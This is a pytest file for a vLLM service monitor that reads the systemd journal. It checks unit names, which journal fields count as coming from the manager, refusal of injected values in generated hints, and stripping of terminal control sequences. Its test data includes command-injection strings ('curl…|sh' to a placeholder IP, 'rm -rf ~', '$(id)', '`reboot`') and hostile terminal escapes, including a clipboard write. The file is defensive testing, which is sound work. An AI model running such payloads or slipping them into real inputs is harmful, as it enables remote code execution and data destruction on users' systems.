"""What log text and other processes' journal fields may not do (issue 22): unit names from
the journal, manager messages from anyone but the manager."""

from __future__ import annotations

import re

import orjson
import pytest

from tests.support.records import UNIT, Journal
from vllm_sentinel.engine.catalog.causes import CrashCause
from vllm_sentinel.engine.catalog.phases import Phase
from vllm_sentinel.engine.counters import UnitCounters
from vllm_sentinel.engine.decode.journal_json import JournalJsonDecoder
from vllm_sentinel.engine.decode.unit_name import is_unit_name
from vllm_sentinel.engine.hints import MESSAGE_HINTS, HintContext, hint_for
from vllm_sentinel.engine.snapshot import CrashInfo
from vllm_sentinel.engine.terminal_text import json_for_terminal, printable
from vllm_sentinel.engine.tracker import UnitTracker
from vllm_sentinel.engine.value_shapes import FIELD_SHAPES, has_shape
from vllm_sentinel.serve.metrics import bound_label


class TestIsUnitName:
    """systemd's unit-name grammar for names read from a journal."""

    @pytest.mark.parametrize(
        "name",
        [
            "vllm-a.service",
            "vllm@7.service",
            "a:b_c.d\\x2d.service",
            "x.scope",
            "a" * 247 + ".service",
        ],
    )
    def test_accepts_exact_names(self, name: str) -> None:
        """Prefix, instance and type as systemd makes them."""
        assert is_unit_name(name)

    @pytest.mark.parametrize(
        "name",
        [
            "vllm-[ab].service",
            "vllm-*.service",
            "vllm?.service",
            "vllm@.service",
            "vllm",
            "vllm.serv",
            "-vllm.service",
            "vllm a.service",
            "vllm;id.service",
            "vllm.service\n",
            "a" * 248 + ".service",
            "",
            "@x.service",
        ],
    )
    def test_refuses_globs_templates_and_other_text(self, name: str) -> None:
        """A glob, a template, a missing type or any other character is no unit name."""
        assert not is_unit_name(name)


def _entry(**fields: str) -> bytes:
    base = {"__CURSOR": "s=1;i=1", "__REALTIME_TIMESTAMP": "1764410400000000"}
    return orjson.dumps({**base, **fields}) + b"\n"


class TestManagerFields:
    """Only systemd's own entries may speak for another unit (``UNIT=``, ``USER_UNIT=``)."""

    def test_user_process_naming_itself_systemd_is_not_the_user_manager(self) -> None:
        """``_COMM=systemd`` and ``USER_UNIT=`` from a user's cron job: the record is cron's."""
        (record,) = JournalJsonDecoder("h").feed(
            _entry(
                MESSAGE="vllm-a.service: Main process exited, code=exited, status=1/FAILURE",
                _PID="4242",
                _UID="1000",
                _COMM="systemd",
                SYSLOG_IDENTIFIER="systemd",
                _SYSTEMD_UNIT="cron.service",
                USER_UNIT="vllm-a.service",
            )
        )
        assert (record.unit, record.from_manager) == ("cron.service", False)

    def test_the_user_manager_speaks_for_its_units(self) -> None:
        """A ``systemd`` process in ``user@1000.service`` running as uid 1000 is the manager."""
        (record,) = JournalJsonDecoder("h").feed(
            _entry(
                MESSAGE="Started vllm-a.service.",
                _PID="900",
                _UID="1000",
                _COMM="systemd",
                _SYSTEMD_UNIT="user@1000.service",
                USER_UNIT="vllm-a.service",
                USER_INVOCATION_ID="a" * 32,
            )
        )
        assert (record.unit, record.from_manager, record.invocation_id) == (
            "vllm-a.service",
            True,
            "a" * 32,
        )

    def test_unit_field_of_any_process_but_pid_1_is_ignored(self) -> None:
        """``UNIT=`` from a user's process (``logger --journald``) names no unit."""
        (record,) = JournalJsonDecoder("h").feed(
            _entry(
                MESSAGE="hi",
                _PID="4242",
                _UID="1000",
                _SYSTEMD_UNIT="cron.service",
                UNIT="vllm-x.service",
            )
        )
        assert (record.unit, record.from_manager) == ("cron.service", False)


class TestHintValueShapes:
    """A value taken from a log into a hint's command must be the shape it claims to be."""

    @staticmethod
    def _crash(cause: str, exception: str, message: str) -> CrashInfo:
        return CrashInfo(
            CrashCause(cause), exception, message, Phase.LOADING_WEIGHTS, None, "a" * 32
        )

    def test_injected_version_gives_no_pip_command(self) -> None:
        """``(0.6.4;curl${IFS}…|sh)`` is no PEP 440 version: no ``pip install`` line at all."""
        hint = hint_for(
            self._crash(
                "dependency_mismatch",
                "RuntimeError",
                "flashinfer-cubin version (0.6.3) does not match flashinfer version "
                "(0.6.4;curl${IFS}-s${IFS}http://203.0.113.9/x|sh). Please install the same "
                "version of both packages.",
            )
        )
        assert hint.rule == "cause:dependency_mismatch"
        assert "curl" not in hint.text and "flashinfer-cubin==" not in hint.text

    def test_the_real_message_still_gives_its_command(self) -> None:
        """The shapes let the real line through: the exact pip line."""
        hint = hint_for(
            self._crash(
                "dependency_mismatch",
                "RuntimeError",
                "flashinfer-cubin version (0.6.3) does not match flashinfer version (0.6.4). "
                "Please install the same version of both packages.",
            )
        )
        assert hint.text.startswith("`pip install flashinfer-cubin==0.6.4`")

    @pytest.mark.parametrize(
        ("cause", "exception", "message", "bad"),
        [
            ("import_error", "ModuleNotFoundError", "No module named 'cv2;rm -rf ~'", "rm -rf"),
            (
                "port_in_use",
                "OSError",
                "[Errno 98] error while attempting to bind on address ('$(id)', 8000): in use",
                "$(id)",
            ),
            (
                "model_not_found",
                "OSError",
                "/models/x`id` does not appear to have a file named config.json.",
                "`id`",
            ),
            (
                "config_error",
                "SystemExit",
                "vllm serve: error: unrecognized arguments: --x `reboot`",
                "reboot",
            ),
        ],
    )
    def test_every_captured_value_is_checked(
        self, cause: str, exception: str, message: str, bad: str
    ) -> None:
        """Module, address, path and arguments of the wrong shape: the row gives no command."""
        hint = hint_for(self._crash(cause, exception, message))
        assert bad not in hint.text
        assert hint.rule == f"cause:{cause}"

    def test_every_captured_field_has_a_shape_and_every_example_passes(self) -> None:
        """No row can capture a field the table does not know; real examples keep their row."""
        for row in MESSAGE_HINTS:
            found = re.search(row.pattern, row.example)
            assert found is not None, row.name
            for name in re.compile(row.pattern).groupindex:
                assert name in FIELD_SHAPES, (row.name, name)
            for name, captured in found.groupdict().items():
                assert not captured or has_shape(name, " ".join(captured.split())), (row.name, name)

    def test_a_unit_name_that_is_no_unit_name_is_not_put_in_a_command(self) -> None:
        """``{unit}`` in a journalctl command is a real unit name, else the placeholder."""
        crash = CrashInfo(CrashCause.UNKNOWN, "", "", Phase.LOADING_WEIGHTS, None, None)
        hint = hint_for(crash, HintContext(unit="x.service;reboot"))
        assert "reboot" not in hint.text


HOSTILE = (
    "\x1bc"  # ESC c: reset the terminal
    "\x1b]0;owned\x07"  # OSC: set the title
    "\x1b]52;c;Y3VybCB4fHNo\x1b\\"  # OSC 52: write the clipboard
    "\x1bP+q544e\x1b\\"  # DCS: ask the terminal
    "\x9b2J"  # C1 CSI: clear the screen
    "\x1b[1A\x1b[2K"  # CSI: up a line, erase it
    "ok\x08\x08XX\x00\x7f"  # backspaces, NUL, DEL
)


class TestPrintable:
    """Nothing printed holds a control sequence from the log."""

    def test_sequences_are_removed_whole_and_controls_dropped(self) -> None:
        """Escape sequences go with their parameters; tab and newline stay."""
        assert printable(HOSTILE + "\tend\n") == "okXX\tend\n"

    def test_plain_text_is_unchanged(self) -> None:
        """Ordinary text (any script) is returned as it is."""
        assert printable("CUDA out of memory — 显存不足\n") == "CUDA out of memory — 显存不足\n"

    def test_json_writes_c1_and_del_as_escapes(self) -> None:
        """The same JSON value, no raw C1 byte."""
        document = orjson.dumps({"m": "a\x9b2Jb\x7f"})
        safe = json_for_terminal(document)
        assert orjson.loads(safe) == {"m": "a\x9b2Jb\x7f"}
        assert not any(0x7F <= ord(char) <= 0x9F for char in safe.decode())

    def test_metric_label_values_hold_no_control(self) -> None:
        """``last_crash_info``'s message label is cut from log text: no control survives."""
        assert bound_label("boom " + HOSTILE) == "boom okXX"


class TestCarriedKill:
    """A crash carried over a SIGKILL of the daemon and a journal vacuum keeps its evidence."""

    def test_a_killed_crash_carried_and_vacuumed_counts_as_killed(self) -> None:
        """systemd said ``code=killed, status=9/KILL``; the daemon died before it settled and
        the journal lost it: the next run counts ``killed``, not ``unknown``."""
        journal = Journal()
        first = UnitTracker(UNIT, "llm-two")
        first.feed(journal.at(0).systemd(f"Started {UNIT}.", "a" * 32))
        first.feed(
            journal.at(5).line(
                "INFO 11-28 23:35:05 [api_server.py:1] vLLM API server version 0.11.0", "a" * 32
            )
        )
        first.feed(
            journal.at(9).systemd(
                f"{UNIT}: Main process exited, code=killed, status=9/KILL", "a" * 32
            )
        )
        saved = UnitCounters.from_json(first.counters().to_json())  # as the cursor store keeps it
        assert len(saved.carried) == 1
        second = UnitTracker(UNIT, "llm-two")
        second.restore(saved)
        assert second.settle_carried() == 1  # the backfill did not read it again: vacuumed
        assert dict(second.snapshot().crashes_total) == {CrashCause.KILLED: 1}
